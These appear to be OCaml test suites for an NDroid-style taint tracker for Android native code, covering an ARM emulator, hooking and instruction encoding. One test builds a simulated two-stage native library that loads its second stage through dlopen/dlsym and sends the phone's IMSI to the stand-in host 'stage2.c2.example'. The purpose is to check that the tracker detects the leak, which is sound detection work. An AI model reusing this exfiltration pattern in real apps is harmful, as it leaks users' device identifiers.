           "Primitive" name in the paper's table — skip the placeholder *)
        if is_mounted name then None else Some (name, group))
      Jni_names.functions
  in
  let tolerated = [] in
  let really_missing =
    List.filter (fun (n, _) -> not (List.mem n tolerated)) missing
  in
  if really_missing <> [] then
    Alcotest.failf "unmounted taxonomy entries: %s"
      (String.concat ", " (List.map fst really_missing))

let test_sink_catalogs_consistent () =
  (* every native sink name in Syscalls.sinks is among the hooked calls *)
  List.iter
    (fun s ->
      Alcotest.(check bool) (s ^ " hooked") true
        (List.mem s Ndroid_android.Syscalls.hooked))
    Ndroid_android.Syscalls.sinks;
  (* every Java sink class resolves in a fresh VM *)
  let device = Device.create () in
  List.iter
    (fun (cls, m) ->
      ignore (Ndroid_dalvik.Vm.find_method (Device.vm device) cls m))
    Ndroid_android.Sinks.sink_catalog

let all_apps =
  (* sec6_batch re-lists ePhone; keep the first occurrence of each name *)
  List.fold_left
    (fun acc a ->
      if List.exists (fun b -> b.H.app_name = a.H.app_name) acc then acc
      else a :: acc)
    []
    (Ndroid_apps.Cases.all @ Ndroid_apps.Case_studies.all
    @ Ndroid_apps.Polymorphic.variants @ Ndroid_apps.Sec6_batch.apps
    @ [ Ndroid_apps.Evasion.app ])
  |> List.rev

let test_no_crash_matrix () =
  (* 20 apps x 4 modes: Harness.run must always return an outcome *)
  List.iter
    (fun app ->
      List.iter
        (fun mode -> ignore (H.run mode app))
        [ H.Vanilla; H.Taintdroid_only; H.Droidscope_mode; H.Ndroid_full ])
    all_apps

let test_fresh_devices_are_isolated () =
  (* a leak on one device never shows on another *)
  let o1 = H.run H.Ndroid_full Ndroid_apps.Cases.case2 in
  let device2 = H.boot Ndroid_apps.Cases.case2 in
  Alcotest.(check bool) "first device leaked" true (o1.H.leaks <> []);
  Alcotest.(check int) "second device clean" 0
    (Ndroid_android.Sink_monitor.leak_count (Device.monitor device2))

let test_app_names_unique () =
  let names = List.map (fun a -> a.H.app_name) all_apps in
  Alcotest.(check int) "no duplicate app names" (List.length names)
    (List.length (List.sort_uniq compare names))

let suite =
  [ Alcotest.test_case "JNI taxonomy fully mounted" `Quick test_taxonomy_is_mounted;
    Alcotest.test_case "sink catalogs consistent" `Quick
      test_sink_catalogs_consistent;
    Alcotest.test_case "no-crash matrix (20 apps x 4 modes)" `Quick
      test_no_crash_matrix;
    Alcotest.test_case "fresh devices isolated" `Quick
      test_fresh_devices_are_isolated;
    Alcotest.test_case "app names unique" `Quick test_app_names_unique ]
