(* Emulator layer: machine host dispatch, events, multilevel hooking,
   icache ablation, OS view. *)

module Machine = Ndroid_emulator.Machine
module Layout = Ndroid_emulator.Layout
module Multilevel = Ndroid_emulator.Multilevel
module Os_view = Ndroid_emulator.Os_view
module Tracer = Ndroid_emulator.Tracer
module Asm = Ndroid_arm.Asm
module Insn = Ndroid_arm.Insn
module Cpu = Ndroid_arm.Cpu

let test_host_fn_dispatch () =
  let m = Machine.create () in
  Machine.set_host_fn_work m 0;
  let called = ref 0 in
  ignore
    (Machine.mount_host_fn m ~lib:"libc.so" ~name:"answer" ~addr:0x40100100
       (fun cpu _mem ->
         incr called;
         Cpu.set_reg cpu 0 42));
  let r0, _ = Machine.call_native m ~addr:0x40100100 ~args:[ 1; 2 ] () in
  Alcotest.(check int) "result" 42 r0;
  Alcotest.(check int) "called once" 1 !called;
  Alcotest.(check int) "addr lookup" 0x40100100 (Machine.host_fn_addr m "answer")

let test_guest_calls_host () =
  let m = Machine.create () in
  Machine.set_host_fn_work m 0;
  ignore
    (Machine.mount_host_fn m ~lib:"libc.so" ~name:"add10" ~addr:0x40100100
       (fun cpu _ -> Cpu.set_reg cpu 0 (Cpu.reg cpu 0 + 10)));
  let prog =
    Asm.assemble
      ~extern:(fun _ -> Some 0x40100100)
      ~base:Layout.app_lib_base
      [ Asm.Label "f";
        Asm.I (Insn.push [ Insn.r4; Insn.lr ]);
        Asm.I (Insn.mov 0 (Insn.Imm 5));
        Asm.Call "add10";
        Asm.Call "add10";
        Asm.I (Insn.pop [ Insn.r4; Insn.pc ]) ]
  in
  Machine.load_program m prog;
  let r0, _ = Machine.call_native m ~addr:(Asm.fn_addr prog "f") ~args:[] () in
  Alcotest.(check int) "5 + 10 + 10" 25 r0

let test_events_sequence () =
  let m = Machine.create () in
  Machine.set_host_fn_work m 0;
  ignore
    (Machine.mount_host_fn m ~lib:"libc.so" ~name:"noop" ~addr:0x40100100
       (fun _ _ -> ()));
  let prog =
    Asm.assemble
      ~extern:(fun _ -> Some 0x40100100)
      ~base:Layout.app_lib_base
      [ Asm.I (Insn.push [ Insn.lr ]);
        Asm.Call "noop";
        Asm.I (Insn.pop [ Insn.pc ]) ]
  in
  Machine.load_program m prog;
  let insns = ref 0 and pres = ref 0 and posts = ref 0 and branches = ref 0 in
  Machine.add_listener m (fun ev ->
      match ev with
      | Machine.Ev_insn _ -> incr insns
      | Machine.Ev_host_pre _ -> incr pres
      | Machine.Ev_host_post _ -> incr posts
      | Machine.Ev_branch _ -> incr branches
      | Machine.Ev_svc _ -> ());
  ignore (Machine.call_native m ~addr:Layout.app_lib_base ~args:[] ());
  (* push + li(4) + blx + pop = 7 guest instructions *)
  Alcotest.(check int) "guest insns" 7 !insns;
  Alcotest.(check int) "host pre" 1 !pres;
  Alcotest.(check int) "host post" 1 !posts;
  Alcotest.(check bool) "branches observed" true (!branches >= 2)

let test_runaway_guard () =
  let m = Machine.create () in
  let prog =
    Asm.assemble ~base:Layout.app_lib_base
      [ Asm.Label "spin"; Asm.Br (Insn.AL, "spin") ]
  in
  Machine.load_program m prog;
  Alcotest.(check bool) "runaway raises" true
    (match Machine.call_native m ~fuel:1000 ~addr:Layout.app_lib_base ~args:[] () with
     | exception Machine.Runaway _ -> true
     | _ -> false)

let test_nested_call_native () =
  (* a host function that itself calls back into guest code *)
  let m = Machine.create () in
  Machine.set_host_fn_work m 0;
  let prog =
    Asm.assemble ~base:Layout.app_lib_base
      [ Asm.Label "triple";
        Asm.I (Insn.add 0 0 (Insn.Reg_shift_imm (0, Insn.LSL, 1)));
        Asm.I Insn.bx_lr ]
  in
  ignore
    (Machine.mount_host_fn m ~lib:"libdvm.so" ~name:"callback" ~addr:0x40000100
       (fun cpu _ ->
         let r0, _ =
           Machine.call_native m ~addr:(Asm.fn_addr prog "triple")
             ~args:[ Cpu.reg cpu 0 + 1 ] ()
         in
         Cpu.set_reg cpu 0 r0));
  Machine.load_program m prog;
  let outer =
    Asm.assemble
      ~extern:(fun _ -> Some 0x40000100)
      ~base:(Layout.app_lib_base + 0x1000)
      [ Asm.I (Insn.push [ Insn.lr ]);
        Asm.I (Insn.mov 0 (Insn.Imm 6));
        Asm.Call "callback";
        Asm.I (Insn.pop [ Insn.pc ]) ]
  in
  Machine.load_program m outer;
  let r0, _ =
    Machine.call_native m ~addr:(Layout.app_lib_base + 0x1000) ~args:[] ()
  in
  (* (6+1) * 3 = 21 *)
  Alcotest.(check int) "nested result" 21 r0

let test_icache_effective () =
  let m = Machine.create () in
  let prog =
    Asm.assemble ~base:Layout.app_lib_base
      [ Asm.I (Insn.mov 0 (Insn.Imm 0));
        Asm.I (Insn.mov 1 (Insn.Imm 100));
        Asm.Label "loop";
        Asm.I (Insn.add 0 0 (Insn.Reg 1));
        Asm.I (Insn.subs 1 1 (Insn.Imm 1));
        Asm.Br (Insn.NE, "loop");
        Asm.I Insn.bx_lr ]
  in
  Machine.load_program m prog;
  ignore (Machine.call_native m ~addr:Layout.app_lib_base ~args:[] ());
  let hits, misses = Machine.icache_stats m in
  Alcotest.(check bool) "hits dominate" true (hits > 10 * misses);
  Alcotest.(check bool) "some misses" true (misses >= 5)

(* ---- multilevel hooking: the Fig. 5 scenario ---- *)

let fig5_chain () =
  let call_void = 0x40001000
  and dvm_call = 0x40002000
  and interp = 0x40003000 in
  let tracker =
    Multilevel.create
      ~chain:
        [ Multilevel.exact call_void; Multilevel.exact dvm_call;
          Multilevel.exact interp ]
      ~in_native:Layout.in_app_lib
  in
  (tracker, call_void, dvm_call, interp)

let test_multilevel_full_chain () =
  let tracker, call_void, dvm_call, interp = fig5_chain () in
  let native = Layout.app_lib_base + 0x100 in
  (* step 1: native code calls CallVoidMethodA — T1 *)
  Alcotest.(check bool) "T1" true
    (Multilevel.observe tracker ~from_:native ~to_:call_void = Some (Multilevel.Enter 0));
  (* step 2: -> dvmCallMethodA — T2 *)
  Alcotest.(check bool) "T2" true
    (Multilevel.observe tracker ~from_:call_void ~to_:dvm_call
     = Some (Multilevel.Enter 1));
  (* step 3: -> dvmInterpret — T3 *)
  Alcotest.(check bool) "T3" true
    (Multilevel.observe tracker ~from_:dvm_call ~to_:interp
     = Some (Multilevel.Enter 2));
  Alcotest.(check int) "at level 3" 3 (Multilevel.level tracker);
  (* step 4: return to dvmCallMethodA (C+4) — T4 *)
  Alcotest.(check bool) "T4" true
    (Multilevel.observe tracker ~from_:interp ~to_:(dvm_call + 4)
     = Some (Multilevel.Leave 2));
  (* step 5: return to CallVoidMethodA — T5 *)
  Alcotest.(check bool) "T5" true
    (Multilevel.observe tracker ~from_:dvm_call ~to_:(call_void + 4)
     = Some (Multilevel.Leave 1));
  (* step 6: return to native — T6 *)
  Alcotest.(check bool) "T6" true
    (Multilevel.observe tracker ~from_:call_void ~to_:(native + 4)
     = Some (Multilevel.Leave 0));
  Alcotest.(check int) "unwound" 0 (Multilevel.level tracker)

let test_multilevel_rejects_framework_origin () =
  let tracker, call_void, dvm_call, interp = fig5_chain () in
  (* the framework itself (not third-party native code) calls dvmInterpret:
     no condition holds, nothing is instrumented *)
  Alcotest.(check bool) "no T for framework call" true
    (Multilevel.observe tracker ~from_:Layout.libdvm_base ~to_:interp = None);
  Alcotest.(check bool) "not even entry" true
    (Multilevel.observe tracker ~from_:Layout.libdvm_base ~to_:call_void = None);
  ignore dvm_call;
  Alcotest.(check int) "still level 0" 0 (Multilevel.level tracker)

let test_multilevel_skips_inner_without_outer () =
  let tracker, _, dvm_call, _ = fig5_chain () in
  (* jumping straight to dvmCallMethodA from native misses T1: ignored *)
  Alcotest.(check bool) "no chain entry at level 1" true
    (Multilevel.observe tracker ~from_:(Layout.app_lib_base + 4) ~to_:dvm_call
     = None)

let test_os_view () =
  let m = Machine.create () in
  let view = Os_view.reconstruct m in
  Alcotest.(check bool) "has processes" true (List.length view.Os_view.processes >= 3);
  Alcotest.(check bool) "finds libc" true
    (match Os_view.find_region view (Layout.libc_base + 100) with
     | Some r -> r.Os_view.r_name = "libc.so"
     | None -> false);
  Alcotest.(check bool) "app region" true
    (match Os_view.find_region view (Layout.app_lib_base + 8) with
     | Some r -> r.Os_view.r_name = "app_native_lib"
     | None -> false);
  Alcotest.(check bool) "unmapped" true
    (Os_view.find_region view 0x00001000 = None)

let test_tracer_filters () =
  let m = Machine.create () in
  Machine.set_host_fn_work m 0;
  let prog =
    Asm.assemble ~base:Layout.app_lib_base
      [ Asm.I (Insn.mov 0 (Insn.Imm 1)); Asm.I Insn.bx_lr ]
  in
  Machine.load_program m prog;
  let seen = ref 0 in
  let t = Tracer.attach ~handler:(fun ~addr:_ ~insn:_ -> incr seen) m in
  ignore (Machine.call_native m ~addr:Layout.app_lib_base ~args:[] ());
  Alcotest.(check int) "traced" 2 (Tracer.traced t);
  Alcotest.(check int) "handler calls" 2 !seen

let test_layout_regions_disjoint () =
  let regions = Layout.regions in
  List.iteri
    (fun i (n1, b1, s1) ->
      List.iteri
        (fun j (n2, b2, s2) ->
          if i < j then
            let overlap = b1 < b2 + s2 && b2 < b1 + s1 in
            if overlap then Alcotest.failf "%s overlaps %s" n1 n2)
        regions)
    regions

let suite =
  [ Alcotest.test_case "host fn dispatch" `Quick test_host_fn_dispatch;
    Alcotest.test_case "guest calls host" `Quick test_guest_calls_host;
    Alcotest.test_case "event sequence" `Quick test_events_sequence;
    Alcotest.test_case "runaway guard" `Quick test_runaway_guard;
    Alcotest.test_case "nested call_native" `Quick test_nested_call_native;
    Alcotest.test_case "icache effective" `Quick test_icache_effective;
    Alcotest.test_case "multilevel: full Fig.5 chain" `Quick
      test_multilevel_full_chain;
    Alcotest.test_case "multilevel: framework origin rejected" `Quick
      test_multilevel_rejects_framework_origin;
    Alcotest.test_case "multilevel: inner without outer" `Quick
      test_multilevel_skips_inner_without_outer;
    Alcotest.test_case "os view" `Quick test_os_view;
    Alcotest.test_case "tracer filter" `Quick test_tracer_filters;
    Alcotest.test_case "layout regions disjoint" `Quick test_layout_regions_disjoint ]

let test_throw_new_internal_chain () =
  (* ThrowNew's libdvm internals surface as real host events:
     ThrowNew -> initException -> dvmCreateStringFromCstr (Sec. V-B's
     exception group hooks all three) *)
  let device = Ndroid_runtime.Device.create () in
  let machine = Ndroid_runtime.Device.machine device in
  let order = ref [] in
  Machine.add_listener machine (fun ev ->
      match ev with
      | Machine.Ev_host_pre hf -> order := hf.Machine.hf_name :: !order
      | _ -> ());
  let mem = Machine.mem machine in
  Ndroid_arm.Memory.write_cstring mem 0x30000000 "Ljava/lang/SecurityException;";
  Ndroid_arm.Memory.write_cstring mem 0x30000100 "boom";
  let find = Machine.host_fn_addr machine "FindClass" in
  let cls, _ =
    Machine.call_native machine ~addr:find ~args:[ 0; 0x30000000 ] ()
  in
  let throw_new = Machine.host_fn_addr machine "ThrowNew" in
  ignore (Machine.call_native machine ~addr:throw_new ~args:[ 0; cls; 0x30000100 ] ());
  let seq = List.rev !order in
  let rec subsequence needle hay =
    match (needle, hay) with
    | [], _ -> true
    | _, [] -> false
    | n :: ns, h :: hs -> if n = h then subsequence ns hs else subsequence needle hs
  in
  Alcotest.(check bool) "chain order" true
    (subsequence [ "ThrowNew"; "initException"; "dvmCreateStringFromCstr" ] seq)

let suite =
  suite
  @ [ Alcotest.test_case "ThrowNew internal chain events" `Quick
        test_throw_new_internal_chain ]
