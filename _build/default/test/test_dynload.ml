(* Dynamic native-code loading: JNI_OnLoad + RegisterNatives, and
   dlopen/dlsym second stages — the "hide the program logic and impede
   reverse engineering" patterns the paper's introduction attributes to
   NDK malware. *)

module Device = Ndroid_runtime.Device
module Machine = Ndroid_emulator.Machine
module Layout = Ndroid_emulator.Layout
module Vm = Ndroid_dalvik.Vm
module Dvalue = Ndroid_dalvik.Dvalue
module J = Ndroid_dalvik.Jbuilder
module B = Ndroid_dalvik.Bytecode
module Asm = Ndroid_arm.Asm
module Insn = Ndroid_arm.Insn
module Taint = Ndroid_taint.Taint
module H = Ndroid_apps.Harness

let tv ?(taint = Taint.clear) v : Vm.tval = (v, taint)
let int32 n = Dvalue.Int (Int32.of_int n)
let mov rd rm = Asm.I (Insn.mov rd (Insn.Reg rm))
let movi rd v = Asm.I (Insn.mov rd (Insn.Imm v))

let boot classes libs =
  let device = Device.create () in
  Device.install_classes device classes;
  let extern name =
    match Machine.host_fn_addr (Device.machine device) name with
    | a -> Some a
    | exception Not_found -> None
  in
  List.iter
    (fun (name, build) -> Device.provide_library device name (build extern))
    libs;
  device

(* ---- RegisterNatives: the dex declares secretOp, the library exports only
   JNI_OnLoad and binds secretOp to an unexported routine at load time ---- *)

let reg_cls = "LDyn;"

let regnatives_lib extern =
  Asm.assemble ~extern ~base:Layout.app_lib_base
    [ Asm.Label "JNI_OnLoad";
      Asm.I (Insn.push [ Insn.r4; Insn.lr ]);
      Asm.I (Insn.mov 9 (Insn.Reg 0));
      (* cls = FindClass("LDyn;") *)
      Asm.La (1, "cls_n");
      Asm.Call "FindClass";
      mov 1 0;
      (* build the JNINativeMethod table in place: {name, sig, fnPtr} *)
      Asm.La (2, "nm_table");
      Asm.La (3, "m_name");
      Asm.I (Insn.str 3 2 0);
      Asm.La (3, "m_sig");
      Asm.I (Insn.str 3 2 4);
      Asm.La (3, "hidden_impl");
      Asm.I (Insn.str 3 2 8);
      (* RegisterNatives(env, cls, table, 1) *)
      movi 3 1;
      mov 0 9;
      Asm.Call "RegisterNatives";
      movi 0 4 (* JNI_VERSION-ish *);
      Asm.I (Insn.pop [ Insn.r4; Insn.pc ]);
      (* the unexported implementation: int secretOp(int) = x * 3 *)
      Asm.Label "hidden_impl";
      Asm.I (Insn.add 0 2 (Insn.Reg_shift_imm (2, Insn.LSL, 1)));
      Asm.I Insn.bx_lr;
      Asm.Align4;
      Asm.Label "cls_n";
      Asm.Asciz "LDyn;";
      Asm.Label "m_name";
      Asm.Asciz "secretOp";
      Asm.Label "m_sig";
      Asm.Asciz "(I)I";
      Asm.Label "nm_table";
      Asm.Word 0;
      Asm.Word 0;
      Asm.Word 0 ]

let test_register_natives () =
  let device =
    boot
      [ J.class_ ~name:reg_cls
          [ (* the declared symbol does NOT exist in the library *)
            J.native_method ~cls:reg_cls ~name:"secretOp" ~shorty:"II"
              "Java_LDyn_secretOp" ] ]
      [ ("dyn", regnatives_lib) ]
  in
  Device.load_library device "dyn";
  let v, _ = Device.run device reg_cls "secretOp" [| tv (int32 14) |] in
  Alcotest.(check bool) "bound via RegisterNatives" true (Dvalue.equal v (int32 42))

let test_unregistered_still_fails () =
  let device =
    boot
      [ J.class_ ~name:reg_cls
          [ J.native_method ~cls:reg_cls ~name:"secretOp" ~shorty:"II"
              "Java_LDyn_secretOp" ] ]
      [ ("dyn", regnatives_lib) ]
  in
  (* library never loaded: JNI_OnLoad never ran *)
  Alcotest.(check bool) "UnsatisfiedLinkError" true
    (match Device.run device reg_cls "secretOp" [| tv (int32 14) |] with
     | exception Vm.Dvm_error _ -> true
     | _ -> false)

(* ---- dlopen/dlsym: a stage-1 library loads stage 2 at runtime and calls
   into it by function pointer; the tainted flow crosses both ---- *)

let dl_cls = "LStaged;"

let stage2_lib extern =
  Asm.assemble ~extern ~base:(Layout.app_lib_base + 0x10000)
    [ (* int stage2_exfil(char* data, int len): send it out *)
      Asm.Label "stage2_exfil";
      Asm.I (Insn.push [ Insn.r4; Insn.r5; Insn.r6; Insn.lr ]);
      Asm.I (Insn.mov 4 (Insn.Reg 0));
      Asm.I (Insn.mov 5 (Insn.Reg 1));
      Asm.Call "socket";
      Asm.I (Insn.mov 6 (Insn.Reg 0));
      Asm.La (1, "s2dest");
      Asm.Call "connect";
      mov 0 6;
      mov 1 4;
      mov 2 5;
      Asm.Call "send";
      movi 0 0;
      Asm.I (Insn.pop [ Insn.r4; Insn.r5; Insn.r6; Insn.pc ]);
      Asm.Align4;
      Asm.Label "s2dest";
      Asm.Asciz "stage2.c2.example" ]

let stage1_lib extern =
  Asm.assemble ~extern ~base:Layout.app_lib_base
    [ (* void drop(String secret) *)
      Asm.Label "drop";
      Asm.I (Insn.push [ Insn.r4; Insn.r5; Insn.r6; Insn.lr ]);
      Asm.I (Insn.mov 9 (Insn.Reg 0));
      (* chars/len *)
      mov 1 2;
      movi 2 0;
      Asm.Call "GetStringUTFChars";
      Asm.I (Insn.mov 4 (Insn.Reg 0));
      Asm.Call "strlen";
      Asm.I (Insn.mov 5 (Insn.Reg 0));
      (* handle = dlopen("libstage2.so"); fn = dlsym(handle, "stage2_exfil") *)
      Asm.La (0, "s2name");
      movi 1 0;
      Asm.Call "dlopen";
      mov 0 0;
      Asm.La (1, "s2sym");
      Asm.Call "dlsym";
      Asm.I (Insn.mov 6 (Insn.Reg 0));
      (* fn(chars, len) by pointer *)
      mov 0 4;
      mov 1 5;
      Asm.I (Insn.blx_reg 6);
      movi 0 0;
      Asm.I (Insn.pop [ Insn.r4; Insn.r5; Insn.r6; Insn.pc ]);
      Asm.Align4;
      Asm.Label "s2name";
      Asm.Asciz "libstage2.so";
      Asm.Label "s2sym";
      Asm.Asciz "stage2_exfil" ]

let staged_classes =
  [ J.class_ ~name:dl_cls
      [ J.native_method ~cls:dl_cls ~name:"drop" ~shorty:"VL" "drop";
        J.method_ ~cls:dl_cls ~name:"main" ~shorty:"V"
          [ J.I (B.Invoke (B.Static,
                           { B.m_class = "Landroid/telephony/TelephonyManager;";
                             m_name = "getSubscriberId" }, []));
            J.I (B.Move_result 0);
            J.I (B.Invoke (B.Static, { B.m_class = dl_cls; m_name = "drop" }, [ 0 ]));
            J.I B.Return_void ] ] ]

let staged_device () =
  let device = boot staged_classes [ ("stage1", stage1_lib); ("stage2", stage2_lib) ] in
  Device.load_library device "stage1";
  device

let test_dlopen_second_stage_flow () =
  let device = staged_device () in
  let nd = Ndroid_core.Ndroid.attach device in
  ignore (Device.run device dl_cls "main" [||]);
  (* the IMSI crossed stage 1, a dlopen boundary, and stage 2's send *)
  match Ndroid_core.Ndroid.leaks nd with
  | [ leak ] ->
    Alcotest.(check string) "caught at stage-2 send" "send"
      leak.Ndroid_android.Sink_monitor.sink;
    Alcotest.(check bool) "imsi tag" true
      (Taint.equal leak.Ndroid_android.Sink_monitor.taint Taint.imsi);
    Alcotest.(check string) "dest is the stage-2 C2" "stage2.c2.example"
      leak.Ndroid_android.Sink_monitor.detail
  | leaks -> Alcotest.failf "expected 1 leak, got %d" (List.length leaks)

let test_dlopen_unknown_returns_zero () =
  let device = staged_device () in
  let machine = Device.machine device in
  let mem = Machine.mem machine in
  Ndroid_arm.Memory.write_cstring mem 0x30000000 "libnothere.so";
  let dlopen = Machine.host_fn_addr machine "dlopen" in
  let h, _ = Machine.call_native machine ~addr:dlopen ~args:[ 0x30000000; 0 ] () in
  Alcotest.(check int) "NULL handle" 0 h

let suite =
  [ Alcotest.test_case "RegisterNatives binds hidden impl" `Quick
      test_register_natives;
    Alcotest.test_case "unloaded lib still fails" `Quick
      test_unregistered_still_fails;
    Alcotest.test_case "dlopen second-stage flow caught" `Quick
      test_dlopen_second_stage_flow;
    Alcotest.test_case "dlopen of unknown lib" `Quick
      test_dlopen_unknown_returns_zero ]
