(* ARM/Thumb: encode/decode roundtrips, executor semantics, flags. *)

module Insn = Ndroid_arm.Insn
module Encode = Ndroid_arm.Encode
module Decode = Ndroid_arm.Decode
module Thumb = Ndroid_arm.Thumb
module Cpu = Ndroid_arm.Cpu
module Memory = Ndroid_arm.Memory
module Exec = Ndroid_arm.Exec
module Asm = Ndroid_arm.Asm

let insn = Alcotest.testable Insn.pp ( = )

(* ---- roundtrips ---- *)

let roundtrip i =
  let w = Encode.encode i in
  match Decode.decode w with
  | Some i' -> Alcotest.check insn (Insn.to_string i) i i'
  | None -> Alcotest.failf "decode failed for %s (0x%08x)" (Insn.to_string i) w

let test_dp_roundtrip () =
  List.iter roundtrip
    [ Insn.adds Insn.r0 Insn.r1 (Insn.Reg Insn.r2);
      Insn.sub Insn.r3 Insn.r4 (Insn.Imm 0xFF);
      Insn.mov Insn.r5 (Insn.Imm 0xFF000000);
      Insn.mvn Insn.r6 (Insn.Reg Insn.r7);
      Insn.orr Insn.r1 Insn.r1 (Insn.Reg_shift_imm (Insn.r2, Insn.LSL, 4));
      Insn.eor Insn.r1 Insn.r1 (Insn.Reg_shift_reg (Insn.r2, Insn.ROR, Insn.r3));
      Insn.cmp Insn.r0 (Insn.Imm 10);
      Insn.tst Insn.r1 (Insn.Reg Insn.r2);
      Insn.bic Insn.r1 Insn.r2 (Insn.Imm 0xF0) ]

let test_conditional_roundtrip () =
  List.iter roundtrip
    [ Insn.Dp { cond = Insn.NE; op = Insn.ADD; s = false; rd = 0; rn = 1;
                op2 = Insn.Imm 1 };
      Insn.B { cond = Insn.GT; link = false; offset = -10 };
      Insn.Mem { cond = Insn.LS; load = true; width = Insn.Word; rd = 2; rn = 3;
                 offset = Insn.Off_imm 8; pre = true; writeback = false } ]

let test_mem_roundtrip () =
  List.iter roundtrip
    [ Insn.ldr 0 1 4;
      Insn.str 2 3 (-8);
      Insn.ldrb 4 5 0;
      Insn.strb 6 7 255;
      Insn.ldrh 0 1 6;
      Insn.strh 2 3 (-6);
      Insn.Mem { cond = Insn.AL; load = true; width = Insn.Word; rd = 0; rn = 1;
                 offset = Insn.Off_reg (true, 2, Insn.LSL, 2); pre = true;
                 writeback = false };
      Insn.Mem { cond = Insn.AL; load = false; width = Insn.Word; rd = 0; rn = 13;
                 offset = Insn.Off_imm (-4); pre = true; writeback = true } ]

let test_block_branch_roundtrip () =
  List.iter roundtrip
    [ Insn.push [ Insn.r4; Insn.r5; Insn.lr ];
      Insn.pop [ Insn.r4; Insn.r5; Insn.pc ];
      Insn.Block { cond = Insn.AL; load = true; rn = 2; mode = Insn.IB;
                   writeback = false; regs = 0xF0 };
      Insn.B { cond = Insn.AL; link = true; offset = 1000 };
      Insn.bx_lr;
      Insn.blx_reg 12;
      Insn.svc 0x42;
      Insn.mul 0 1 2;
      Insn.mla 0 1 2 3 ]

let test_vfp_roundtrip () =
  List.iter roundtrip
    [ Insn.Vdp { cond = Insn.AL; op = Insn.VADD; prec = Insn.F32; vd = 1; vn = 2; vm = 3 };
      Insn.Vdp { cond = Insn.AL; op = Insn.VSUB; prec = Insn.F64; vd = 4; vn = 5; vm = 6 };
      Insn.Vdp { cond = Insn.AL; op = Insn.VMUL; prec = Insn.F32; vd = 31; vn = 0; vm = 15 };
      Insn.Vdp { cond = Insn.AL; op = Insn.VDIV; prec = Insn.F64; vd = 7; vn = 8; vm = 9 };
      Insn.Vmem { cond = Insn.AL; load = true; prec = Insn.F64; vd = 2; rn = 1; offset = 16 };
      Insn.Vmem { cond = Insn.AL; load = false; prec = Insn.F32; vd = 9; rn = 13; offset = -8 };
      Insn.Vmov_core { cond = Insn.AL; to_core = true; rt = 3; sn = 17 };
      Insn.Vmov_core { cond = Insn.AL; to_core = false; rt = 0; sn = 1 };
      Insn.Vcvt { cond = Insn.AL; to_double = true; vd = 3; vm = 7 };
      Insn.Vcvt { cond = Insn.AL; to_double = false; vd = 6; vm = 2 };
      Insn.Vcvt_int { cond = Insn.AL; to_float = true; prec = Insn.F64; vd = 1; vm = 2 };
      Insn.Vcvt_int { cond = Insn.AL; to_float = false; prec = Insn.F32; vd = 4; vm = 5 } ]

let test_imm_encodable () =
  Alcotest.(check bool) "255" true (Encode.imm_encodable 255);
  Alcotest.(check bool) "0xFF000000" true (Encode.imm_encodable 0xFF000000);
  Alcotest.(check bool) "0x101" false (Encode.imm_encodable 0x101);
  Alcotest.check_raises "unencodable raises"
    (Encode.Encode_error "immediate 257 not encodable as rotated imm8")
    (fun () -> ignore (Encode.encode (Insn.mov 0 (Insn.Imm 257))))

(* random dp instruction generator for the roundtrip property *)
let dp_gen =
  let open QCheck.Gen in
  let reg = int_bound 15 in
  let op2 =
    oneof
      [ map (fun r -> Insn.Reg r) reg;
        map (fun b -> Insn.Imm (b land 0xFF)) (int_bound 255);
        map3 (fun r k n -> Insn.Reg_shift_imm (r, k, n)) reg
          (oneofl [ Insn.LSL; Insn.LSR; Insn.ASR; Insn.ROR ])
          (int_range 1 31) ]
  in
  let op =
    oneofl
      [ Insn.AND; Insn.EOR; Insn.SUB; Insn.RSB; Insn.ADD; Insn.ADC; Insn.SBC;
        Insn.RSC; Insn.ORR; Insn.BIC; Insn.MOV; Insn.MVN ]
  in
  map3
    (fun op (rd, rn) (op2, s) ->
      Insn.Dp { cond = Insn.AL; op; s; rd; rn = (if Insn.is_move_op op then 0 else rn); op2 })
    op (pair reg reg) (pair op2 bool)

let prop_dp_roundtrip =
  QCheck.Test.make ~name:"random data-processing roundtrip" ~count:500
    (QCheck.make dp_gen ~print:Insn.to_string)
    (fun i -> Decode.decode (Encode.encode i) = Some i)

(* ---- Thumb roundtrips ---- *)

let thumb_roundtrip i =
  match Thumb.encode i with
  | None -> Alcotest.failf "no thumb encoding for %s" (Insn.to_string i)
  | Some halves -> (
    match Thumb.decode (List.hd halves) (List.nth_opt halves 1) with
    | Some (i', size) ->
      Alcotest.check insn (Insn.to_string i) i i';
      Alcotest.(check int) "size" (2 * List.length halves) size
    | None -> Alcotest.failf "thumb decode failed for %s" (Insn.to_string i))

let test_thumb_roundtrip () =
  List.iter thumb_roundtrip
    [ Insn.movs 0 (Insn.Imm 42);
      Insn.adds 1 1 (Insn.Imm 200);
      Insn.subs 2 2 (Insn.Imm 3);
      Insn.adds 0 1 (Insn.Reg 2);
      Insn.subs 3 4 (Insn.Reg 5);
      Insn.Dp { cond = Insn.AL; op = Insn.MOV; s = true; rd = 2; rn = 0;
                op2 = Insn.Reg_shift_imm (1, Insn.LSL, 4) };
      Insn.Dp { cond = Insn.AL; op = Insn.CMP; s = true; rd = 0; rn = 3;
                op2 = Insn.Imm 9 };
      Insn.Dp { cond = Insn.AL; op = Insn.AND; s = true; rd = 1; rn = 1;
                op2 = Insn.Reg 2 };
      Insn.Dp { cond = Insn.AL; op = Insn.MVN; s = true; rd = 1; rn = 0;
                op2 = Insn.Reg 2 };
      Insn.ldr 1 2 16;
      Insn.strb 0 1 7;
      Insn.ldrh 3 4 12;
      Insn.push [ Insn.r4; Insn.lr ];
      Insn.pop [ Insn.r4; Insn.pc ];
      Insn.B { cond = Insn.AL; link = false; offset = -4 };
      Insn.B { cond = Insn.NE; link = false; offset = 8 };
      Insn.B { cond = Insn.AL; link = true; offset = 100 };
      Insn.bx_lr;
      Insn.svc 7 ]

let test_thumb_unsupported () =
  Alcotest.(check bool) "no shift-by-hi-reg encoding" false
    (Thumb.encodable (Insn.adds 9 9 (Insn.Reg 10)))

(* ---- executor semantics ---- *)

let run_program ?(fuel = 100_000) items check =
  let prog = Asm.assemble ~base:0x1000 items in
  let mem = Memory.create () in
  Asm.load prog mem;
  let cpu = Cpu.create () in
  Cpu.set_pc cpu 0x1000;
  Cpu.set_sp cpu 0x20000;
  Cpu.set_reg cpu 14 0xFFFF0000;
  let rec go n =
    if Cpu.pc cpu = 0xFFFF0000 then ()
    else if n > fuel then Alcotest.fail "program did not terminate"
    else begin
      ignore (Exec.step cpu mem);
      go (n + 1)
    end
  in
  go 0;
  check cpu mem

let test_exec_sum_loop () =
  run_program
    [ Asm.I (Insn.mov 0 (Insn.Imm 0));
